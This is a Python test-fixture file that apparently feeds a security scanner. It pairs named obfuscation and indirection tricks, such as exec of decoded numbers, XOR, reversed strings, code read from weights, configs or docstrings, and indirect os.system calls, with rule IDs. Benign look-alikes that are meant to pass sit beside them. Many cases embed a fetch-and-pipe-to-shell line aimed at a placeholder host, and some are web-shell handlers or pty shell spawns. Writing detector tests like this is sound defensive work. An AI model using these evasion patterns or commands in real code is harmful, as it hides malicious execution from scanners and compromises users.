"""INDIRECT: name of a technique → (source text, the rule it must meet); TWINS: honest source that
looks alike, and passes. Nothing here is ever run.
"""

from __future__ import annotations

from tests.attacks.code.cases import HOST

_SHELL = f"curl -s {HOST}/x | sh"
_NUMBERS = "[105, 109, 112, 111, 114, 116, 32, 111, 115]"

INDIRECT: dict[str, tuple[str, str]] = {
    "chr_in_a_generator": (f"exec(''.join(chr(x) for x in {_NUMBERS}))", "SW-CODE-114"),
    "chr_in_a_list": (f"n = {_NUMBERS}\nexec(''.join([chr(x) for x in n]))", "SW-CODE-114"),
    "chr_by_index": (
        f"n = {_NUMBERS}\nexec(''.join(chr(n[i]) for i in range(len(n))))",
        "SW-CODE-114",
    ),
    "chr_by_map": (f"exec(''.join(map(chr, {_NUMBERS})))", "SW-CODE-114"),
    "chr_added": ("a = chr(105) + chr(109) + chr(112)\nexec(a + chr(111))", "SW-CODE-114"),
    "bytes_of_numbers": (f"exec(bytes({_NUMBERS}).decode())", "SW-CODE-114"),
    "bytes_by_a_name_and_a_function": (
        f"def text():\n    return bytes({_NUMBERS})\nt = text().decode()\nexec(t)",
        "SW-CODE-114",
    ),
    "percent_c": ("exec('%c%c%c%c' % (105, 109, 112, 111))", "SW-CODE-114"),
    "xor_of_bytes": ("d = b'\\x01\\x02\\x03'\neval(bytes(c ^ 42 for c in d))", "SW-CODE-114"),
    "xor_of_text": (
        "exec(''.join(chr(ord(c) ^ 7) for c in 'nwqits'))",
        "SW-CODE-114",
    ),
    "reversed_by_slice": ("exec('so tropmi'[::-1])", "SW-CODE-114"),
    "reversed_by_name": ("t = 'so tropmi'\nexec(''.join(reversed(t)))", "SW-CODE-114"),
    "every_second_letter": ("exec('ixmxpxoxrxtx xoxsx'[::2])", "SW-CODE-114"),
    "odd_codec": ("exec('6F73'.encode().decode('utf_16'))", "SW-CODE-114"),
    "translated": ("exec('jnqpsu!pt'.translate({106: 105}))", "SW-CODE-114"),
    "replaced_text": (
        "exec('import os_os.system(\"id\")'.replace('_', chr(10)))",
        "SW-CODE-114",
    ),
    "numbers_of_a_tensor": (
        "import torch\nt = torch.load('w.pt', weights_only=True)\n"
        "exec(bytes(t['c'].tolist()).decode())",
        "SW-CODE-114",
    ),
    "file_of_weights": ("exec(open('weights.bin').read())", "SW-CODE-139"),
    "file_in_a_with": (
        "import os\np = os.path.join(os.path.dirname(__file__), 'notes.txt')\n"
        "with open(p) as f:\n    text = f.read()\nexec(compile(text, 'n', 'exec'))",
        "SW-CODE-139",
    ),
    "file_by_pathlib": (
        "from pathlib import Path\nexec((Path(__file__).parent / 'w.bin').read_text())",
        "SW-CODE-139",
    ),
    "own_docstring": ('"""import os"""\nexec(__doc__)', "SW-CODE-139"),
    "docstring_of_a_function": ('def f():\n    """x = 1"""\nexec(f.__doc__)', "SW-CODE-139"),
    "metadata_of_safetensors": (
        "from safetensors import safe_open\nm = safe_open('m.safetensors', 'np').metadata()\n"
        "exec(m['c'])",
        "SW-CODE-139",
    ),
    "value_of_a_configuration": (
        "import json\nexec(json.load(open('config.json'))['init'])",
        "SW-CODE-139",
    ),
    "value_of_a_configuration_compiled": (
        "import json\nc = json.load(open('c.json'))\nexec(compile(c['x'], 'x', 'exec'))",
        "SW-CODE-139",
    ),
    "thread": (
        f"import threading, os\nthreading.Thread(target=os.system, args=('{_SHELL}',)).start()",
        "SW-CODE-120",
    ),
    "map": (f"import os\nlist(map(os.system, ['{_SHELL}']))", "SW-CODE-120"),
    "map_with_a_list_by_name": (
        f"import os\ntodo = ['{_SHELL}']\nlist(map(os.system, todo))",
        "SW-CODE-120",
    ),
    "executor": (
        "from concurrent.futures import ThreadPoolExecutor as T\nimport os\n"
        f"T().submit(os.system, '{_SHELL}')",
        "SW-CODE-120",
    ),
    "process_with_a_list": (
        "from multiprocessing import Process\nimport subprocess\n"
        f"Process(target=subprocess.run, args=(['sh', '-c', '{_SHELL}'],)).start()",
        "SW-CODE-120",
    ),
    "partial": (
        f"import functools, os\nf = functools.partial(os.system, '{_SHELL}')\nf()",
        "SW-CODE-120",
    ),
    "thread_by_getattr": (
        "import os\nfrom threading import Thread\n"
        f"Thread(target=getattr(os, 'popen'), args=['{_SHELL}']).start()",
        "SW-CODE-120",
    ),
    "map_of_exec": (
        "import base64\nlist(map(exec, [base64.b64decode('cHJpbnQoKQ==')]))",
        "SW-CODE-114",
    ),
    "dictionary": (f"import os\nD = {{'a': os.system}}\nD['a']('{_SHELL}')", "SW-CODE-120"),
    "dictionary_by_get": (
        f"import os\nD = {{'a': os.system}}\nD.get('a')('{_SHELL}')",
        "SW-CODE-120",
    ),
    "list_of_functions": (f"import os\n[print, os.system][1]('{_SHELL}')", "SW-CODE-120"),
    "class_attribute": (
        f"import os\nclass A:\n    f = staticmethod(os.system)\nA.f('{_SHELL}')",
        "SW-CODE-120",
    ),
    "attribute_of_an_object": (
        "import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n"
        f"    def go(self):\n        self.f('{_SHELL}')",
        "SW-CODE-120",
    ),
    "default_argument": (
        f"import os\ndef g(c, f=os.system):\n    f(c)\ng('{_SHELL}')",
        "SW-CODE-120",
    ),
    "argument": (f"import os\ndef g(f):\n    f('{_SHELL}')\ng(os.system)", "SW-CODE-120"),
    "own_function_around_it": (
        f"import os\ndef run(c):\n    os.system(c)\nrun('ls')\nrun('{_SHELL}')",
        "SW-CODE-120",
    ),
    "lambda_that_is_called": (
        f"import subprocess as s\n(lambda f: f('{_SHELL}', shell=True))(s.call)",
        "SW-CODE-120",
    ),
    "command_by_a_name": (
        f"import subprocess\nc = ['bash', '-c', '{_SHELL}']\nsubprocess.run(c)",
        "SW-CODE-120",
    ),
    "through_torch": ("import torch\ntorch.os.system('id')", "SW-CODE-140"),
    "through_numpy": ("import numpy as np\nnp.f2py.os.system('id')", "SW-CODE-140"),
    "imported_from_another": ("from shutil import os as o\no.popen('id')", "SW-CODE-140"),
    "through_a_private_name": ("import random\nrandom._os.system('id')", "SW-CODE-140"),
    "through_and_judged": (f"import torch\ntorch.os.system('{_SHELL}')", "SW-CODE-120"),
    "through_modules": (f"import torch\ntorch.sys.modules['os'].system('{_SHELL}')", "SW-CODE-120"),
    "timeit": (
        f'import timeit\ntimeit.timeit(\'__import__("os").system("{_SHELL}")\', number=1)',
        "SW-CODE-120",
    ),
    "timeit_with_a_setup": (
        "import timeit\ntimeit.timeit('s.run([1])', setup='import subprocess as s')",
        "SW-CODE-114",
    ),
    "profile": ("import cProfile\ncProfile.run('import os; os.system(\"id\")')", "SW-CODE-114"),
    "debugger": ("import os, pdb\npdb.runeval('os.popen(\"id\")')", "SW-CODE-114"),
    "tracer": ("import trace\ntrace.Trace().run('import pty; pty.spawn(\"sh\")')", "SW-CODE-114"),
    "console": (
        "import code\ncode.InteractiveConsole().push('import os; os.system(\"id\")')",
        "SW-CODE-114",
    ),
    "text_in_a_text": ("exec('exec(\"import os; os.system(1)\")')", "SW-CODE-114"),
    "web_shell_in_a_handler": (
        "import subprocess\nclass H:\n    def handle(self, data, ctx):\n"
        "        return subprocess.check_output(data[0]['body'], shell=True)",
        "SW-CODE-141",
    ),
    "web_shell_of_an_endpoint": (
        "import os\nclass EndpointHandler:\n    def __call__(self, data):\n"
        "        command = data.pop('inputs', data)\n        return os.popen(command).read()",
        "SW-CODE-141",
    ),
    "web_shell_in_a_route": (
        "import os\n@app.post('/x')\nasync def run(request):\n"
        "    body = await request.json()\n    os.system(body['c'])",
        "SW-CODE-141",
    ),
}
TWINS: dict[str, str] = {
    "version": "ns = {}\nexec(open('pkg/version.py').read(), ns)",
    "version_beside_it": (
        "import os\nhere = os.path.dirname(__file__)\n"
        "with open(os.path.join(here, 'pkg', 'version.py')) as f:\n    exec(f.read())"
    ),
    "version_by_pathlib": (
        "from pathlib import Path\nexec((Path(__file__).parent / 'a' / '_v.py').read_text())"
    ),
    "program_runner": (
        "def run(path):\n    with open(path) as f:\n        exec(compile(f.read(), path, 'exec'))"
    ),
    "syntax_tree": (
        "import ast\ndef run(text):\n    tree = ast.parse(text)\n"
        "    exec(compile(tree, 'x', 'exec'))"
    ),
    "evaluated_configuration": (
        "import yaml\nc = yaml.safe_load(open('c.yaml'))\no = eval(c['optimizer'])"
    ),
    "letters": "n = [chr(97 + i) for i in range(9)]\nf = eval('lambda ' + ','.join(n) + ': 1')",
    "template": "exec('def NAME(): return 1'.replace('NAME', 'go'))",
    "count_of_lines": "n = len(open('a.txt').readlines())\nexec(f'import m{n}')",
    "constants_of_subprocess": (
        "import subprocess\nlog = subprocess.PIPE\nprint(subprocess.CalledProcessError, log)"
    ),
    "instance_of_popen": "import subprocess\ndef f(p):\n    return isinstance(p, subprocess.Popen)",
    "replaceable_runner": (
        "import subprocess\ndef build(target, run=subprocess.run):\n"
        "    return run(['make', target], check=True)\nif __name__ == '__main__':\n    build('all')"
    ),
    "thread_of_a_plain_command": (
        "import subprocess, threading\ndef go():\n"
        "    threading.Thread(target=subprocess.run, args=(['ls'],)).start()"
    ),
    "star_import": "from tools import *\ndef go():\n    os.system('ls')",
    "own_module": "from .compat import subprocess\ndef go():\n    subprocess.run(['ls'])",
    "gevent": "from gevent import subprocess\ndef go():\n    subprocess.run(['ls'])",
    "benchmark": "import timeit\ntimeit.timeit('sum(range(9))', setup='import math')",
    "profiled": "import cProfile\ncProfile.run('main()')",
    "converter": (
        "import subprocess\ndef predict(data):\n"
        "    subprocess.run(f\"ffmpeg -i {data['path']} out.wav\", shell=True)"
    ),
    "list_without_a_shell": (
        "import subprocess\ndef handle(data):\n    subprocess.run(['ls', data['path']])"
    ),
    "runner": "import subprocess\ndef execute(command):\n    subprocess.run(command, shell=True)",
    "advice_beside_a_reference": (
        "import subprocess\nRUN = subprocess.run\n"
        f"def advise():\n    print('install it: curl -LsSf {HOST}/install.sh | sh')"
    ),
}
